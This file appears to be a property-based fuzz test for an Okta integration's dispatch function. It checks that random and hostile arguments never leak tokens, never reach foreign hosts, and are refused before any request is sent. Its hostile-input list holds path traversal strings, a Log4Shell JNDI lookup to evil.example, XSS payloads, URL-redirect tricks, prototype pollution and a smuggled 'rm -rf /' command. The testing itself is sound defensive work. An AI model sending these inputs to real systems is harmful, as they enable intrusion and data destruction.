/**
 * Property-based: dispatch() driven with random command names, argument names and values
 * (unicode, huge, traversal, quotes, control characters, encoded slashes, NUL, numbers as
 * strings, objects where strings belong …) against a nock'd org with real network disabled.
 *
 * For every run: it ends in a non-empty array of well-formed entries (never a throw, never a
 * hang: each run is bounded), no entry holds a stack trace or the API token, nothing goes to any
 * other host, every request that is sent stays on the org's API with one value per path segment,
 * and NOTHING is sent when the arguments fail validation.
 */
import fc from 'fast-check';
import nock from 'nock';
import { prepareArgs } from '../../../integration/engine/args.js';
import { ManualClock } from '../../../integration/base/clock.js';
import { dispatch, type DispatchOutcome } from '../../../entry/index.js';
import { ArgumentError, UsageError } from '../../../integration/base/errors.js';
import { loadManifest } from '../../../integration/engine/manifest.js';
import { MemoryStore } from '../../../integration/state/store.js';
import { catchAllOkta, decodeLoosely, ORG, STACK_LINE, strings } from './helpers.js';

const TOKEN = '00Property-apiToken-0123456789abcdefghijklm';
const params = { url: ORG, apitoken: TOKEN, max_retries: 1 };
const RUN_TIMEOUT_MS = 3000;

const { commands } = loadManifest();
const commandNames = [...commands.keys()];
const allArgNames = [...new Set([...commands.values()].flatMap((c) => c.arguments.map((a) => a.name)))];

const HOSTILE = [
  '..',
  '../',
  '../../groups',
  'a/../../apps',
  '%2f',
  '%2F..%2F',
  '%2e%2e',
  '.%2e',
  '"',
  '\\"',
  'a" or profile.login sw "',
  'x") or (true',
  '\\',
  '\u0000',
  'alice@example.com\u0000admin@example.com',
  '\n',
  '\n    at Object.<anonymous> (/app/x.js:1:1)',
  '\r\n',
  '\u2028',
  '\uD800',
  'a\uDC00b',
  '\u202Egnp.exe',
  '💥👩‍💻',
  'ﬀ',
  '1e309',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '00',
  '99999999999999999999',
  '1.5',
  ' 5 ',
  '0x10',
  'true',
  'null',
  'undefined',
  '[]',
  '{}',
  '[1,2',
  '{"__proto__":{"polluted":1}}',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  `${'https://evil.example'}/api/v1/users`,
  '//evil.example/x',
  'https://example.okta.com@evil.example/api/v1/users/00u1/factors/f1/transactions/t1',
  'javascript:alert(1)',
  ',,,',
  'a,b,../c',
  'SSWS 00abc',
  '__proto__',
  'alice@example.com',
  '00u1abcdEFGH2345ijkl',
];

const hostile = fc.constantFrom(...HOSTILE);
const huge = fc.integer({ min: 2_000, max: 200_000 }).map((n) => 'x'.repeat(n));
const text = fc.oneof(fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 24 }), fc.string({ unit: 'grapheme', maxLength: 12 }));
const value = fc.oneof(
  { weight: 4, arbitrary: hostile },
  { weight: 3, arbitrary: text },
  { weight: 1, arbitrary: huge },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.constant(undefined)) },
  { weight: 1, arbitrary: fc.oneof(fc.array(fc.string({ maxLength: 6 }), { maxLength: 3 }), fc.object({ maxDepth: 1, maxKeys: 3 })) },
);

const commandName = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...commandNames, 'test-module') },
  { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 1, arbitrary: fc.constantFrom('', '../okta-get-user', 'okta-get-user\n    at x (y.js:1:1)', 'OKTA-GET-USER', '__proto__', 'constructor', 'toString', 'okta-get-user; rm -rf /', 'x'.repeat(100_000)) },
);

const runInput = commandName.chain((name) => {
  const own = commands.get(name)?.arguments.map((a) => a.name) ?? [];
  const argName = fc.oneof(
    { weight: own.length ? 6 : 0, arbitrary: own.length ? fc.constantFrom(...own) : fc.constant('x') },
    { weight: 2, arbitrary: fc.constantFrom(...allArgNames, 'dry_run', 'using', 'extend-context', 'raw-response') },
    { weight: 1, arbitrary: fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'a\nb', '')) },
  );
  return fc.record({
    name: fc.constant(name),
    args: fc.dictionary(argName, value, { maxKeys: 4 }),
    positional: fc.option(fc.array(fc.oneof(hostile, text), { maxLength: 2 }), { nil: undefined }),
  });
});

/** Would validation refuse these arguments? (The oracle for "nothing is sent".) */
function refusedByValidation(name: string, args: Record<string, unknown>, positional: string[] | undefined): boolean {
  const c = commands.get(name);
  if (!c) return name !== 'test-module';
  try {
    prepareArgs(c, args, positional);
    return false;
  } catch (e) {
    if (e instanceof ArgumentError || e instanceof UsageError) return true;
    throw e;
  }
}

function withTimeout<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let t: NodeJS.Timeout;
  return Promise.race([p, new Promise<T>((_, reject) => (t = setTimeout(() => reject(new Error(`hung for ${ms} ms: ${what}`)), ms)))]).finally(() => clearTimeout(t));
}

function checkOutcome(o: DispatchOutcome): void {
  expect(Array.isArray(o.entries)).toBe(true);
  expect(o.entries.length).toBeGreaterThan(0);
  for (const e of o.entries) {
    expect([1, 4]).toContain(e.Type);
    expect(['json', 'text']).toContain(e.ContentsFormat);
    expect(typeof e.HumanReadable).toBe('string');
    if (e.Type === 4) expect(typeof e.Contents).toBe('string');
  }
  expect([0, 1, 2]).toContain(o.exitCode);
  expect(o.exitCode === 0).toBe(o.entries.every((e) => e.Type === 1));
  for (const s of strings(o.entries)) {
    if (STACK_LINE.test(s)) throw new Error(`a stack trace in an entry: ${s.slice(0, 300)}`);
    if (s.includes(TOKEN)) throw new Error('the API token in an entry');
  }
}

beforeAll(() => nock.disableNetConnect());
afterAll(() => {
  nock.cleanAll();
  nock.enableNetConnect();
  // Unpatch Node's http module: later test files in this Jest worker may need real sockets.
  nock.restore();
});

test('dispatch() with random commands, argument names and values: always entries, never a stack, nothing sent when validation fails', async () => {
  const stub = catchAllOkta();
  let refused = 0;
  let sentRuns = 0;
  try {
    await fc.assert(
      fc.asyncProperty(runInput, async ({ name, args, positional }) => {
        stub.seen.length = 0;
        const refuses = refusedByValidation(name, args, positional);
        const o = await withTimeout(dispatch(name, args, params, { clock: new ManualClock(), state: new MemoryStore(), positional }), RUN_TIMEOUT_MS, `${name.slice(0, 40)} ${JSON.stringify(args).slice(0, 200)}`);
        checkOutcome(o);
        if (refuses) {
          refused++;
          expect(stub.seen).toEqual([]);
          expect(o.exitCode).not.toBe(0);
        }
        if (stub.seen.length) sentRuns++;
        for (const r of stub.seen) {
          const pathname = r.path.split('?')[0]!;
          expect(pathname.startsWith('/api/v1/')).toBe(true);
          for (const seg of pathname.split('/').slice(1)) {
            const once = decodeLoosely(seg);
            if (once === '.' || once === '..' || /[/\\]/.test(once)) throw new Error(`a traversal reached the path: ${pathname}`);
          }
        }
        expect(stub.foreign).toEqual([]);
      }),
      { numRuns: 600, interruptAfterTimeLimit: 12_000, markInterruptAsFailure: false },
    );
  } finally {
    stub.stop();
  }
  // The property means something only if both branches were exercised.
  expect(refused).toBeGreaterThan(50);
  expect(sentRuns).toBeGreaterThan(10);
}, 30_000);
